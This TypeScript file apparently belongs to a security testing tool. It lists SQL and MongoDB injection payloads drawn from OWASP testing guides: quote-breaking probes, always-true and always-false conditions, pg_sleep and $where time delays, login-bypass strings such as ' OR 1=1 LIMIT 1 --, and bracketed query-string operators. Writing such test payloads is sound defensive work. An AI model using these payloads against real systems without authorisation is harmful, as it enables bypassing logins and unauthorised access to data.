/** A condition that is always true, and the same one always false: only where it is run do their answers differ. */
export interface Condition {
  always: string;
  never: string;
}

/** Seconds that a smuggled statement sleeps. */
export const SLEEP_SECONDS = 2;

/**
 * Payloads for SQL. Sources: OWASP Web Security Testing Guide, WSTG-INPV-05 "Testing for SQL injection" (quotes,
 * tautologies, stacked statements, time delays) and 05.4 "Testing PostgreSQL". None of them changes data: a table
 * that is dropped would fail every other criterion too, and tell no more than a statement that sleeps.
 *
 * @param ordinary an ordinary value of the field
 */
export const SQL = {
  probes: (ordinary: string): unknown[] => [
    `${ordinary}'`,
    `${ordinary}"`,
    `${ordinary}\\`,
    `${ordinary}'--`,
    `${ordinary}')--`,
    `${ordinary}' UNION SELECT NULL--`,
    `${ordinary}';--`,
  ],
  conditions: (ordinary: string): Condition[] =>
    [
      `${ordinary}' OR 'a'='@`,
      `${ordinary}' OR 'a'='@' -- `,
      `${ordinary}%' OR 'a'='@' -- `,
      `${ordinary}') OR ('a'='@`,
      `${ordinary}') OR 'a'='@' -- `,
      "0 OR 'a'='@'",
      "0) OR ('a'='@'",
    ].map((text) => ({
      always: text.replace('@', 'a'),
      never: text.replace('@', 'b'),
    })),
  delays: (ordinary: string): unknown[] => [
    `${ordinary}' OR (SELECT 1 FROM pg_sleep(${SLEEP_SECONDS})) = 1 -- `,
    `${ordinary}'; SELECT pg_sleep(${SLEEP_SECONDS}); -- `,
    `0 OR (SELECT 1 FROM pg_sleep(${SLEEP_SECONDS})) = 1`,
    `0; SELECT pg_sleep(${SLEEP_SECONDS}); -- `,
  ],
  /** Instead of a value of a user's login, with all else as that user sends it. */
  logins: (value: string): unknown[] => [
    `${value}' AND 'a'='a`,
    `${value}' -- `,
    `' OR 'a'='a`,
    `' OR 'a'='a' -- `,
    `' OR 1=1 LIMIT 1 -- `,
    `') OR ('a'='a`,
  ],
};

/**
 * Operators for MongoDB in JSON. Sources: WSTG-INPV-05.6 "Testing for NoSQL injection"; OWASP "NoSQL Security
 * Cheat Sheet"; `$where` runs JavaScript in the server.
 */
export const NOSQL = {
  probes: (ordinary: string): unknown[] => [
    { $ne: null },
    { $gt: '' },
    { $regex: '.*' },
    { $in: [ordinary] },
    { $exists: true },
    { $unknownOperator: 1 },
    [ordinary],
    { toString: ordinary },
  ],
  delays: (ordinary: string): unknown[] => [
    { $where: `sleep(${SLEEP_SECONDS * 1000}) || true` },
    { $ne: ordinary, $where: `sleep(${SLEEP_SECONDS * 1000}) || true` },
  ],
  /** Instead of a value of a user's login. Some of them fit that user alone, so that the right password goes with them. */
  logins: (value: string): unknown[] => [
    { $eq: value },
    { $in: [value] },
    { $regex: `^${value.replaceAll(/[^\w@-]/g, '\\$&')}$` },
    { $gte: value, $lte: value },
    { $gt: '' },
    { $ne: null },
    { $ne: '' },
    { $regex: '.*' },
    { $exists: true },
  ],
  /** As a query string writes them: `field[$ne]=x`. Parsers that know brackets make objects of these. */
  query: (ordinary: string): { suffix: string; value: string }[] => [
    { suffix: '[$ne]', value: ordinary },
    { suffix: '[$gt]', value: '' },
    { suffix: '[$regex]', value: '.*' },
    { suffix: '[$exists]', value: 'true' },
    { suffix: '[$unknownOperator]', value: '1' },
    { suffix: '[$where]', value: 'true' },
    { suffix: '[]', value: ordinary },
  ],
};
